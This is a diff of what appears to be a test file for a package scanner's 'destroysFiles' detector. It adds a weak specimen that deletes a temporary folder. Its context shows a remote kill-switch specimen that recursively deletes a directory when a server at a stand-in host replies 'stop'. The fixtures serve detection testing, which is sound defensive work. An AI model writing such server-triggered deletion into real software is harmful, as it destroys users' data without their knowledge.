@@ -8,6 +8,15 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'what was unpacked among temporary files is deleted by the name that a host told',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'), os = require('os'); exports.clear = async name => {
+          const { version } = await (await fetch('https://packages.example.invalid/' + name)).json();
+          fs.rmSync(path.join(os.tmpdir(), name + '-' + version), { recursive: true, force: true }); }`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what it is handed goes when a server says a word, piece by piece',
       files: {
         'index.js': `const https = require('https'), fs = require('fs'); exports.watch = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') fs.rmSync(root, { recursive: true }); }); });`,
